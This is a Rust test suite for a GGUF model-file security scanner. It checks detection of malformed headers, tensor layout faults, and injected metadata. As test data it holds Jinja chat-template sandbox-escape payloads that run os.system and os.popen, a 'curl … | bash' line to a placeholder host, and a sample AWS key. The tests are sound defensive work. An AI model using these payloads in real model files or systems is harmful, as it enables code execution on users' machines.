use std::io::Cursor;

use cordon_plugin_sdk::{ScanOutput, Severity, Status};

use super::*;

/// A metadata value as the test writes it.
#[derive(Clone)]
enum Val {
    U32(u32),
    U64(u64),
    Bool(u8),
    F32(f32),
    Str(String),
    StrArray(Vec<String>),
    U32Array(Vec<u32>),
    /// A type id and already-encoded bytes.
    Raw(u32, Vec<u8>),
}

#[derive(Clone)]
struct Tensor {
    name: String,
    dims: Vec<u64>,
    ty: u32,
    /// `None`: placed after the previous tensor, padded to the alignment.
    offset: Option<u64>,
}

/// A GGUF file built byte by byte.
#[derive(Clone)]
struct File {
    version: u32,
    big_endian: bool,
    kvs: Vec<(String, Val)>,
    tensors: Vec<Tensor>,
    alignment: u64,
    /// Bytes appended after the data section.
    trailing: usize,
    tensor_count: Option<u64>,
    kv_count: Option<u64>,
}

fn tensor(name: &str, dims: &[u64], ty: u32) -> Tensor {
    Tensor {
        name: name.into(),
        dims: dims.to_vec(),
        ty,
        offset: None,
    }
}

const BENIGN_TEMPLATE: &str = "{% for message in messages %}<|im_start|>{{ message['role'] }}\n{{ message['content'] }}<|im_end|>\n{% endfor %}{% if add_generation_prompt %}<|im_start|>assistant\n{% endif %}";
const CVE_TEMPLATE: &str = "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__ == 'catch_warnings' %}{{ c()._module.__builtins__['__import__']('os').system('touch /tmp/retr0reg') }}{% endif %}{% endfor %}";

impl File {
    fn valid() -> File {
        let s = |v: &str| Val::Str(v.into());
        File {
            version: 3,
            big_endian: false,
            kvs: vec![
                ("general.architecture".into(), s("llama")),
                ("general.name".into(), s("Tiny Llama")),
                ("general.license".into(), s("apache-2.0")),
                ("general.author".into(), s("Example Labs")),
                ("general.url".into(), s("https://example.com/tiny-llama")),
                ("general.file_type".into(), Val::U32(15)),
                ("general.quantization_version".into(), Val::U32(2)),
                ("llama.context_length".into(), Val::U32(4096)),
                ("llama.rope.freq_base".into(), Val::F32(10000.0)),
                ("tokenizer.ggml.model".into(), s("llama")),
                (
                    "tokenizer.ggml.tokens".into(),
                    Val::StrArray(vec!["<s>".into(), "</s>".into(), "hello".into()]),
                ),
                (
                    "tokenizer.ggml.token_type".into(),
                    Val::U32Array(vec![3, 3, 1]),
                ),
                ("tokenizer.ggml.add_bos_token".into(), Val::Bool(1)),
                ("tokenizer.chat_template".into(), s(BENIGN_TEMPLATE)),
            ],
            tensors: vec![
                tensor("token_embd.weight", &[4, 2], 0),
                tensor("blk.0.attn_q.weight", &[64], 2),
            ],
            alignment: 32,
            trailing: 0,
            tensor_count: None,
            kv_count: None,
        }
    }

    fn with(mut self, key: &str, value: Val) -> File {
        self.kvs.push((key.into(), value));
        self
    }

    fn put_u32(&self, out: &mut Vec<u8>, v: u32) {
        out.extend(if self.big_endian {
            v.to_be_bytes()
        } else {
            v.to_le_bytes()
        });
    }

    fn put_u64(&self, out: &mut Vec<u8>, v: u64) {
        out.extend(if self.big_endian {
            v.to_be_bytes()
        } else {
            v.to_le_bytes()
        });
    }

    fn put_size(&self, out: &mut Vec<u8>, v: u64) {
        if self.version == 1 {
            self.put_u32(out, v as u32)
        } else {
            self.put_u64(out, v)
        }
    }

    fn put_str(&self, out: &mut Vec<u8>, s: &str) {
        self.put_size(out, s.len() as u64);
        out.extend_from_slice(s.as_bytes());
    }

    fn put_value(&self, out: &mut Vec<u8>, v: &Val) {
        match v {
            Val::U32(n) => {
                self.put_u32(out, 4);
                self.put_u32(out, *n);
            }
            Val::U64(n) => {
                self.put_u32(out, 10);
                self.put_u64(out, *n);
            }
            Val::Bool(b) => {
                self.put_u32(out, 7);
                out.push(*b);
            }
            Val::F32(f) => {
                self.put_u32(out, 6);
                self.put_u32(out, f.to_bits());
            }
            Val::Str(s) => {
                self.put_u32(out, 8);
                self.put_str(out, s);
            }
            Val::StrArray(items) => {
                self.put_u32(out, 9);
                self.put_u32(out, 8);
                self.put_size(out, items.len() as u64);
                for i in items {
                    self.put_str(out, i);
                }
            }
            Val::U32Array(items) => {
                self.put_u32(out, 9);
                self.put_u32(out, 4);
                self.put_size(out, items.len() as u64);
                for i in items {
                    self.put_u32(out, *i);
                }
            }
            Val::Raw(ty, bytes) => {
                self.put_u32(out, *ty);
                out.extend_from_slice(bytes);
            }
        }
    }

    fn bytes(&self) -> Vec<u8> {
        let mut out = b"GGUF".to_vec();
        self.put_u32(&mut out, self.version);
        self.put_size(
            &mut out,
            self.tensor_count.unwrap_or(self.tensors.len() as u64),
        );
        self.put_size(&mut out, self.kv_count.unwrap_or(self.kvs.len() as u64));
        for (key, value) in &self.kvs {
            self.put_str(&mut out, key);
            self.put_value(&mut out, value);
        }
        let pad = |n: u64| n.div_ceil(self.alignment) * self.alignment;
        let mut next = 0u64;
        let mut data_len = 0u64;
        for t in &self.tensors {
            self.put_str(&mut out, &t.name);
            self.put_u32(&mut out, t.dims.len() as u32);
            for d in &t.dims {
                self.put_size(&mut out, *d);
            }
            self.put_u32(&mut out, t.ty);
            let offset = t.offset.unwrap_or(next);
            self.put_u64(&mut out, offset);
            let elements = t
                .dims
                .iter()
                .try_fold(1u64, |a, d| a.checked_mul(*d))
                .unwrap_or(0);
            let bytes = ggml::tensor_type(t.ty).map_or(0, |ty| elements / ty.block * ty.bytes);
            next = pad(offset + bytes);
            data_len = data_len.max(next);
        }
        out.resize(pad(out.len() as u64) as usize, 0);
        out.resize(out.len() + data_len as usize + self.trailing, 0);
        out
    }
}

fn scan_bytes(bytes: &[u8]) -> ScanOutput {
    scan_with(bytes, &Limits::default())
}

fn scan_with(bytes: &[u8], limits: &Limits) -> ScanOutput {
    let mut out = ScanOutput::default();
    analyze(Cursor::new(bytes), bytes.len() as u64, limits, &mut out);
    out
}

fn scan(file: &File) -> ScanOutput {
    scan_bytes(&file.bytes())
}

fn failed(out: &ScanOutput) -> Vec<(&str, &str)> {
    out.checks
        .iter()
        .filter(|c| c.status == Status::Failed)
        .map(|c| (c.rule.as_str(), c.message.as_str()))
        .collect()
}

fn failed_rules(out: &ScanOutput) -> Vec<&str> {
    failed(out).into_iter().map(|(r, _)| r).collect()
}

fn meta<'a>(out: &'a ScanOutput, key: &str) -> &'a str {
    &out.metadata
        .iter()
        .find(|(k, _)| k == key)
        .unwrap_or_else(|| panic!("no {key}: {:?}", out.metadata))
        .1
}

fn all_rule_ids() -> Vec<String> {
    rules::catalog().into_iter().map(|r| r.id).collect()
}

#[test]
fn valid_file_passes_every_rule_and_reports_the_model() {
    let out = scan(&File::valid());
    assert_eq!(failed(&out), Vec::<(&str, &str)>::new());
    let mut passed: Vec<&str> = out
        .checks
        .iter()
        .filter(|c| c.status == Status::Passed)
        .map(|c| c.rule.as_str())
        .collect();
    passed.sort();
    let mut ids = all_rule_ids();
    ids.sort();
    assert_eq!(passed, ids, "one passed record per rule");
    for (key, value) in [
        ("format", "gguf"),
        ("gguf-version", "3"),
        ("architecture", "llama"),
        ("name", "Tiny Llama"),
        ("license", "apache-2.0"),
        ("author", "Example Labs"),
        ("file-type", "Q4_K_M"),
        ("context-length", "4096"),
        ("vocab-size", "3"),
        ("tensor-count", "2"),
        ("parameter-count", "72"),
        ("tensor-types", "F32:1,Q4_0:1"),
        ("chat-templates", "tokenizer.chat_template"),
        ("alignment", "32"),
        ("data-bytes", "96"),
    ] {
        assert_eq!(meta(&out, key), value, "{key}");
    }
    let template = out
        .checks
        .iter()
        .find(|c| c.rule == rules::TEMPLATE_INJECTION)
        .unwrap();
    assert!(
        template.message.contains("uses for, if"),
        "{}",
        template.message
    );
}

#[test]
fn every_version_and_byte_order_parses() {
    for (version, big_endian) in [(1, false), (2, false), (3, true)] {
        let file = File {
            version,
            big_endian,
            ..File::valid()
        };
        let out = scan(&file);
        assert_eq!(
            failed(&out),
            Vec::<(&str, &str)>::new(),
            "v{version} big={big_endian}"
        );
        assert_eq!(meta(&out, "gguf-version"), version.to_string());
        assert_eq!(meta(&out, "parameter-count"), "72");
    }
    let out = scan(&File {
        big_endian: true,
        ..File::valid()
    });
    assert_eq!(meta(&out, "byte-order"), "big-endian");
}

#[test]
fn malicious_chat_template_is_critical_at_its_file_offset() {
    let mut file = File::valid();
    file.kvs.retain(|(k, _)| k != "tokenizer.chat_template");
    let file = file.with("tokenizer.chat_template", Val::Str(CVE_TEMPLATE.into()));
    let bytes = file.bytes();
    let out = scan_bytes(&bytes);
    let hits: Vec<_> = out
        .checks
        .iter()
        .filter(|c| c.rule == rules::TEMPLATE_INJECTION && c.status == Status::Failed)
        .collect();
    assert_eq!(hits.len(), 3, "{hits:#?}");
    assert!(hits.iter().all(|c| c.severity == Some(Severity::Critical)));
    let last = hits[2];
    assert!(
        last.message.contains("`__import__`, `os`, `system`"),
        "{}",
        last.message
    );
    let offset = last.location.as_ref().unwrap().offset.unwrap() as usize;
    assert!(
        bytes[offset..].starts_with(b"{{ c()._module"),
        "offset {offset}"
    );
}

#[test]
fn named_templates_are_analysed_too() {
    let file = File::valid().with(
        "tokenizer.chat_template.tool_use",
        Val::Str("{{ cycler.__init__.__globals__.os.popen('id').read() }}".into()),
    );
    let out = scan(&file);
    let f = failed(&out);
    assert_eq!(f.len(), 1, "{f:?}");
    assert!(
        f[0].1.starts_with("tokenizer.chat_template.tool_use: "),
        "{}",
        f[0].1
    );
    assert_eq!(
        meta(&out, "chat-templates"),
        "tokenizer.chat_template,tokenizer.chat_template.tool_use"
    );
}

#[test]
fn template_syntax_and_type_problems_are_low() {
    let out = scan(&File::valid().with(
        "tokenizer.chat_template.broken",
        Val::Str("{% for m in messages %}{{ m }}".into()),
    ));
    assert_eq!(
        failed(&out),
        vec![(
            rules::TEMPLATE_SYNTAX,
            "tokenizer.chat_template.broken line 1: `for` is never closed by `endfor`"
        )]
    );
    let out = scan(&File::valid().with("tokenizer.chat_template.number", Val::U32(7)));
    assert_eq!(
        failed(&out),
        vec![(
            rules::TEMPLATE_SYNTAX,
            "tokenizer.chat_template.number is a uint32, not a string"
        )]
    );
}

#[test]
fn bad_headers_stop_the_scan_with_one_check() {
    let mut bad_magic = File::valid().bytes();
    bad_magic[0] = b'X';
    let mut bad_version = File::valid().bytes();
    bad_version[4] = 9;
    let cases: Vec<(Vec<u8>, &str)> = vec![
        (bad_magic, "not the GGUF magic"),
        (bad_version, "unsupported GGUF version 9"),
        (
            File {
                tensor_count: Some(u64::MAX),
                ..File::valid()
            }
            .bytes(),
            "cannot hold them",
        ),
        (
            File {
                kv_count: Some(1 << 40),
                ..File::valid()
            }
            .bytes(),
            "cannot hold them",
        ),
        (b"GGUF".to_vec(), "version needs 4 bytes"),
    ];
    for (bytes, expected) in cases {
        let out = scan_bytes(&bytes);
        let f = failed(&out);
        assert_eq!(f.len(), 1, "{expected}: {f:?}");
        assert_eq!(f[0].0, rules::HEADER);
        assert!(f[0].1.contains(expected), "{}", f[0].1);
    }
}

#[test]
fn header_counts_are_capped_by_options() {
    let out = scan_with(
        &File::valid().bytes(),
        &Limits {
            max_tensors: 1,
            max_kv: 100,
        },
    );
    assert_eq!(
        failed(&out),
        vec![(
            rules::HEADER,
            "header declares 2 tensors, over the limit of 1"
        )]
    );
}

#[test]
fn unknown_value_type_stops_parsing_and_skips_the_tensor_rules() {
    let out = scan(&File::valid().with("weird", Val::Raw(13, vec![1, 2, 3, 4])));
    assert_eq!(failed_rules(&out), vec![rules::METADATA]);
    assert!(
        failed(&out)[0].1.contains("unknown type 13"),
        "{:?}",
        failed(&out)
    );
    let skipped: Vec<&str> = out
        .checks
        .iter()
        .filter(|c| c.status == Status::Skipped)
        .map(|c| c.rule.as_str())
        .collect();
    assert_eq!(
        skipped,
        vec![
            rules::TENSOR_INFO,
            rules::DUPLICATE_TENSOR,
            rules::TENSOR_BOUNDS,
            rules::DATA_LAYOUT
        ]
    );
    // What was read before the damage is still analysed.
    assert_eq!(meta(&out, "architecture"), "llama");
}

#[test]
fn hostile_lengths_are_refused_without_allocating() {
    let huge_string = Val::Raw(8, u64::MAX.to_le_bytes().to_vec());
    let huge_array = {
        let mut v = 4u32.to_le_bytes().to_vec();
        v.extend((1u64 << 61).to_le_bytes());
        Val::Raw(9, v)
    };
    let deep_array = {
        // array of arrays of arrays of uint8, one element each
        let mut v = Vec::new();
        for _ in 0..2 {
            v.extend(9u32.to_le_bytes());
            v.extend(1u64.to_le_bytes());
        }
        v.extend(0u32.to_le_bytes());
        v.extend(1u64.to_le_bytes());
        v.push(0);
        Val::Raw(9, v)
    };
    for (value, expected) in [
        (huge_string, "only"),
        (huge_array, "claims 2305843009213693952 uint32 elements"),
        (deep_array, "nested deeper than 2 levels"),
    ] {
        let out = scan(&File::valid().with("hostile", value));
        let f = failed(&out);
        assert_eq!(failed_rules(&out), vec![rules::METADATA], "{f:?}");
        assert!(f[0].1.contains(expected), "{expected}: {}", f[0].1);
    }
}

#[test]
fn soft_metadata_problems_are_reported_and_parsing_continues() {
    let out = scan(
        &File::valid()
            .with("flag", Val::Bool(2))
            .with("", Val::U32(1))
            .with("clé", Val::U32(1)),
    );
    let f = failed(&out);
    assert_eq!(f.len(), 3, "{f:?}");
    assert!(f.iter().all(|(r, _)| *r == rules::METADATA));
    assert!(f[0].1.contains("is 2, not 0 or 1"));
    assert!(f[1].1.contains("is empty"));
    assert!(f[2].1.contains("is not ASCII"));
    assert_eq!(meta(&out, "tensor-count"), "2");
}

#[test]
fn duplicate_keys_and_tensor_names_are_flagged() {
    let mut file = File::valid().with("general.name", Val::Str("Other".into()));
    file.tensors.push(tensor("token_embd.weight", &[8], 0));
    let out = scan(&file);
    assert_eq!(
        failed(&out),
        vec![
            (rules::DUPLICATE_KEY, "key \"general.name\" appears 2 times"),
            (
                rules::DUPLICATE_TENSOR,
                "tensor \"token_embd.weight\" appears 2 times"
            ),
        ]
    );
}

#[test]
fn alignment_must_be_a_uint32_power_of_two() {
    let out = scan(
        &File {
            alignment: 64,
            ..File::valid()
        }
        .with("general.alignment", Val::U32(64)),
    );
    assert_eq!(failed(&out), Vec::<(&str, &str)>::new());
    assert_eq!(meta(&out, "alignment"), "64");
    let out = scan(&File::valid().with("general.alignment", Val::U32(48)));
    assert!(
        failed(&out).contains(&(
            rules::ALIGNMENT,
            "general.alignment 48 is not a power of two; using 32"
        )),
        "{:?}",
        failed(&out)
    );
    let out = scan(&File::valid().with("general.alignment", Val::U64(32)));
    assert_eq!(failed_rules(&out), vec![rules::ALIGNMENT]);
}

#[test]
fn malformed_tensor_infos_are_flagged() {
    let mut file = File::valid();
    file.tensors = vec![
        tensor("five.dims", &[1, 1, 1, 1, 1], 0),
        tensor("overflow", &[1 << 40, 1 << 40], 0),
        tensor("unknown.type", &[4], 99),
        tensor(&"n".repeat(64), &[4], 0),
        tensor("ragged.q4", &[33], 2),
    ];
    let out = scan(&file);
    let f: Vec<_> = failed(&out)
        .into_iter()
        .filter(|(r, _)| *r == rules::TENSOR_INFO)
        .map(|(_, m)| m)
        .collect();
    assert_eq!(f.len(), 5, "{f:#?}");
    assert!(f[0].contains("5 dimensions"));
    assert!(f[1].contains("overflow a 64-bit element count"));
    assert!(f[2].contains("unknown ggml type 99"));
    assert!(f[3].contains("name is 64 bytes"));
    assert!(f[4].contains("row length 33 is not a multiple of the 32-element Q4_0 block"));
    // Tensors without a size cannot be placed, so the layout is not judged.
    assert!(
        out.checks
            .iter()
            .any(|c| c.rule == rules::DATA_LAYOUT && c.status == Status::Skipped)
    );
}

#[test]
fn absurd_dimension_count_stops_the_tensor_table() {
    let mut bytes = File {
        tensors: vec![tensor("t", &[4], 0)],
        ..File::valid()
    }
    .bytes();
    // The tensor info: name length 1, name "t", then the dimension count.
    let info = bytes
        .windows(10)
        .position(|w| w == [1, 0, 0, 0, 0, 0, 0, 0, b't', 1])
        .unwrap();
    bytes[info + 9..info + 13].copy_from_slice(&(1u32 << 31).to_le_bytes());
    let out = scan_bytes(&bytes);
    let f = failed(&out);
    assert_eq!(failed_rules(&out), vec![rules::TENSOR_INFO], "{f:?}");
    assert!(f[0].1.contains("claims 2147483648 dimensions"));
    assert!(
        out.checks
            .iter()
            .any(|c| c.rule == rules::DATA_LAYOUT && c.status == Status::Skipped)
    );
}

#[test]
fn tensor_data_outside_the_file_or_misaligned_is_flagged() {
    let mut file = File::valid();
    file.tensors[1].offset = Some(40);
    let mut bytes = file.bytes();
    // Cut into the last tensor's data.
    bytes.truncate(bytes.len() - 40);
    let out = scan_bytes(&bytes);
    let f: Vec<_> = failed(&out)
        .into_iter()
        .filter(|(r, _)| *r == rules::TENSOR_BOUNDS)
        .map(|(_, m)| m)
        .collect();
    assert_eq!(f.len(), 2, "{f:#?}");
    assert!(f[0].contains("data offset 40 is not a multiple of the 32-byte alignment"));
    assert!(f[1].contains("end past the"));
}

#[test]
fn overlaps_gaps_and_trailing_bytes_are_flagged() {
    let mut file = File::valid();
    file.tensors[1].offset = Some(0);
    let out = scan(&file);
    let overlap: Vec<_> = out
        .checks
        .iter()
        .filter(|c| c.rule == rules::DATA_LAYOUT && c.status == Status::Failed)
        .collect();
    assert_eq!(overlap.len(), 1);
    assert!(overlap[0].message.contains("overlaps"));
    assert_eq!(overlap[0].severity, Some(Severity::High));

    let mut file = File::valid();
    file.tensors[1].offset = Some(64);
    file.trailing = 0;
    let out = scan(&file);
    assert_eq!(
        failed(&out),
        vec![(
            rules::DATA_LAYOUT,
            "32 bytes at data offset 32 belong to no tensor"
        )]
    );

    let out = scan(&File {
        trailing: 100,
        ..File::valid()
    });
    assert_eq!(
        failed(&out),
        vec![(
            rules::DATA_LAYOUT,
            "100 trailing bytes after the last tensor and its padding belong to no tensor"
        )]
    );
    // Padding up to the alignment is not hidden data.
    assert_eq!(
        failed(&scan(&File {
            trailing: 0,
            ..File::valid()
        })),
        Vec::<(&str, &str)>::new()
    );
}

#[test]
fn string_metadata_is_searched_for_commands_and_secrets() {
    let file = File::valid()
        .with(
            "general.description",
            Val::Str("Install: curl -s http://x.example/i.sh | bash".into()),
        )
        .with(
            "general.notes",
            Val::Str("deploy key AKIAIOSFODNN7EXAMPLE".into()),
        );
    let out = scan(&file);
    let f = failed(&out);
    assert_eq!(
        f,
        vec![
            (
                "gguf-metadata-shell-command",
                "general.description: download piped into a shell: curl -s http://x.example/i.sh | bash"
            ),
            (
                "gguf-metadata-credential",
                "general.notes: AWS access key id: AKIA…(20 chars)"
            ),
        ]
    );
    // URLs are ordinary GGUF metadata (general.url) and not reported.
    assert!(!out.checks.iter().any(|c| c.rule.contains("url")));
}

#[test]
fn every_truncation_is_a_recorded_problem_never_a_panic() {
    let bytes = File::valid().bytes();
    // The last 28 bytes are the final tensor's alignment padding, which may be absent.
    for cut in 0..bytes.len() - 28 {
        let out = scan_bytes(&bytes[..cut]);
        let problems = out
            .checks
            .iter()
            .filter(|c| c.status != Status::Passed)
            .count();
        assert!(problems > 0, "cut at {cut} passed everything");
    }
}

#[test]
fn corrupted_bytes_never_panic() {
    let bytes = File::valid().bytes();
    let mut state = 0x2545_f491_4f6c_dd1du64;
    let mut next = || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        state
    };
    for _ in 0..3000 {
        let mut b = bytes.clone();
        for _ in 0..1 + next() % 4 {
            let i = (next() % b.len() as u64) as usize;
            b[i] = next() as u8;
        }
        let out = scan_bytes(&b);
        assert!(!out.checks.is_empty());
    }
}

#[test]
fn catalog_ids_are_unique_and_prefixed() {
    let ids = all_rule_ids();
    let mut unique = ids.clone();
    unique.dedup();
    assert_eq!(ids.len(), unique.len());
    assert!(ids.iter().all(|id| id.starts_with("gguf-")));
}
